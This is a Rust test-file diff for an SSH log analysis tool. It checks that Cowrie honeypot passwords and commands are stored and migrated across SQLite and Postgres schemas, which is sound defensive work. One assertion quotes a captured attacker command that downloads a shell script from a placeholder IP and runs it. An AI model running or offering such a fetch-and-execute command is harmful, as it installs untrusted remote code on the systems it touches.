@@ -869,7 +869,7 @@ fn sessions_table_equals_the_grouping_of_all_events_through_appends_and_rotation
     // A database from before the sessions table (schema 1) is migrated: its
     // events are grouped when it is opened.
     let c = rusqlite::Connection::open(&db).unwrap();
-    c.execute_batch("DROP TABLE sessions; ALTER TABLE events DROP COLUMN session; ALTER TABLE inputs DROP COLUMN cursor; ALTER TABLE inputs DROP COLUMN head_hash; ALTER TABLE inputs DROP COLUMN head_len; DROP INDEX events_logins; PRAGMA user_version = 1;").unwrap();
+    c.execute_batch("DROP TABLE sessions; ALTER TABLE events DROP COLUMN session; ALTER TABLE events DROP COLUMN password; ALTER TABLE events DROP COLUMN command; ALTER TABLE inputs DROP COLUMN cursor; ALTER TABLE inputs DROP COLUMN head_hash; ALTER TABLE inputs DROP COLUMN head_len; DROP INDEX events_logins; PRAGMA user_version = 1;").unwrap();
     drop(c);
     let mut s = store::open(&Location::Sqlite(db.clone())).unwrap();
     assert!(
@@ -928,7 +928,7 @@ fn postgres_sessions_table_equals_the_grouping_of_all_events() {
     drop(s);
     // Migration from schema 1.
     let mut c = postgres::Client::connect(&url, postgres::NoTls).unwrap();
-    c.batch_execute("DROP TABLE sessions; ALTER TABLE events DROP COLUMN session; ALTER TABLE inputs DROP COLUMN cursor, DROP COLUMN head_hash, DROP COLUMN head_len; DROP INDEX events_logins; UPDATE sshmap_schema SET version = 1;")
+    c.batch_execute("DROP TABLE sessions; ALTER TABLE events DROP COLUMN session, DROP COLUMN password, DROP COLUMN command; ALTER TABLE inputs DROP COLUMN cursor, DROP COLUMN head_hash, DROP COLUMN head_len; DROP INDEX events_logins; UPDATE sshmap_schema SET version = 1;")
         .unwrap();
     let mut s = store::open(&Location::Postgres(url.clone())).unwrap();
     assert!(
@@ -1082,4 +1082,94 @@ fn reingest_continues_stored_sessions_postgres() {
             .collect()
     };
     reingest_continues_stored_sessions(&url, &ids, dir.path());
+}
+
+/// The fixture's Cowrie passwords and commands, as `(line, password, command)`.
+fn cowrie_details(evs: &[Event]) -> Vec<(u64, Option<String>, Option<String>)> {
+    evs.iter()
+        .filter(|e| e.honeypot.is_some())
+        .map(|e| {
+            (
+                e.src.line,
+                e.password().map(str::to_string),
+                e.command().map(str::to_string),
+            )
+        })
+        .collect()
+}
+
+/// Issue 14: a honeypot's passwords and commands are stored, and a store of
+/// the schema before them (version 6) is migrated: its events read back
+/// without them, new ones with them.
+#[test]
+fn sqlite_keeps_cowrie_passwords_and_commands_and_migrates_an_older_store() {
+    let dir = tempfile::tempdir().unwrap();
+    let db = dir.path().join("s.db");
+    let log = fixture("cowrie/cowrie.json");
+    ingest(&db, &[&log]);
+    let evs = events(&db);
+    let details = cowrie_details(&evs);
+    assert_eq!(details.iter().filter(|d| d.2.is_some()).count(), 6);
+    assert_eq!(details.iter().filter(|d| d.1.is_some()).count(), 12);
+    assert!(details
+        .iter()
+        .any(|d| d.2.as_deref() == Some("cd /tmp; wget http://203.0.113.50/x.sh; sh x.sh")));
+    // Back to schema 6: no such columns.
+    let c = rusqlite::Connection::open(&db).unwrap();
+    c.execute_batch("ALTER TABLE events DROP COLUMN password; ALTER TABLE events DROP COLUMN command; PRAGMA user_version = 6;")
+        .unwrap();
+    drop(c);
+    let old = events(&db);
+    assert_eq!(old.len(), evs.len());
+    assert!(cowrie_details(&old).is_empty());
+    // A new input after the migration keeps its details.
+    let copy = dir.path().join("cowrie-2.json");
+    fs::write(
+        &copy,
+        fs::read_to_string(&log)
+            .unwrap()
+            .replace("\"vm\"", "\"vm2\""),
+    )
+    .unwrap();
+    ingest(&db, &[&copy]);
+    let all = events(&db);
+    let new: Vec<Event> = all
+        .into_iter()
+        .filter(|e| e.host.as_deref() == Some("vm2"))
+        .collect();
+    assert_eq!(cowrie_details(&new), details);
+}
+
+#[test]
+fn postgres_keeps_cowrie_passwords_and_commands_like_sqlite() {
+    let Some(url) = pg_url() else { return };
+    let _guard = crate::store::PG_LOCK
+        .lock()
+        .unwrap_or_else(|e| e.into_inner());
+    drop(pg_fresh(&url));
+    let dir = tempfile::tempdir().unwrap();
+    let lite = dir.path().join("s.db");
+    let log = fixture("cowrie/cowrie.json");
+    for db in [lite.to_str().unwrap(), url.as_str()] {
+        ok(run(&["ingest", "--db", db, log.to_str().unwrap()]));
+    }
+    let mut s1 = store::open(&Location::Sqlite(lite.clone())).unwrap();
+    let mut s2 = store::open(&Location::Postgres(url.clone())).unwrap();
+    let scan = |s: &mut Box<dyn Store>| {
+        let mut v = Vec::new();
+        s.scan(&Filter::default(), &mut |e| v.push(e)).unwrap();
+        v
+    };
+    let (a, b) = (scan(&mut s1), scan(&mut s2));
+    assert_eq!(a, b);
+    assert_eq!(cowrie_details(&b).len(), 18);
+    // Migrated from the schema before the columns (version 7).
+    drop(s2);
+    let mut c = postgres::Client::connect(&url, postgres::NoTls).unwrap();
+    c.batch_execute("ALTER TABLE events DROP COLUMN password, DROP COLUMN command; UPDATE sshmap_schema SET version = 7;")
+        .unwrap();
+    let mut s2 = store::open(&Location::Postgres(url.clone())).unwrap();
+    let migrated = scan(&mut s2);
+    assert_eq!(migrated.len(), a.len());
+    assert!(cowrie_details(&migrated).is_empty());
 }
